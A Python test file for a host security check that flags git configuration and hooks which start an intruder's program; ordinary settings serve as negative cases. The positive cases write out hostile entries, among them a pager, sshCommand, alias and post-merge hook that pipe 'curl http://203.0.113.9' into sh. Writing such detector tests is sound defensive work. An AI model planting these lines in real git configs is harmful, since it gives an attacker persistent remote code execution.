from __future__ import annotations

from tasks.checks.host.git_hook_runs import GitHookRuns
from tests.tasks.checks.host._facts import cannot, found, put, survey

CHECK = GitHookRuns()


def git(content: str, path: str = "/home/alice/.gitconfig") -> list[str]:
    return [severity for severity, _ in found(CHECK, survey(files=(put("git", path, content, mode=0o755),)))]


def test_git_starts_an_intruders_program() -> None:
    assert git("[core]\n\tpager = nohup /tmp/.x/k & less\n") == ["high"]
    assert git("[core]\n\tsshCommand = \"bash -c 'curl http://203.0.113.9 | sh'\"\n") == ["high"]
    assert git('[alias]\n\tst = "!curl http://203.0.113.9 | sh; git status"\n') == ["high"]
    assert git("#!/bin/sh\ncurl http://203.0.113.9 | sh\n", "/srv/app/.git/hooks/post-merge") == ["high"]


def test_what_people_set() -> None:
    ordinary = """[user]
	name = Alice
[core]
	pager = less -FRX
	editor = vim
	hooksPath = .githooks
[alias]
	lg = log --graph
	root = "!git rev-parse --show-toplevel"
[credential]
	helper = /usr/lib/git-core/git-credential-libsecret
"""
    assert git(ordinary) == []
    assert git("#!/bin/sh\nruff check . || exit 1\n", "/srv/app/.git/hooks/pre-commit") == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
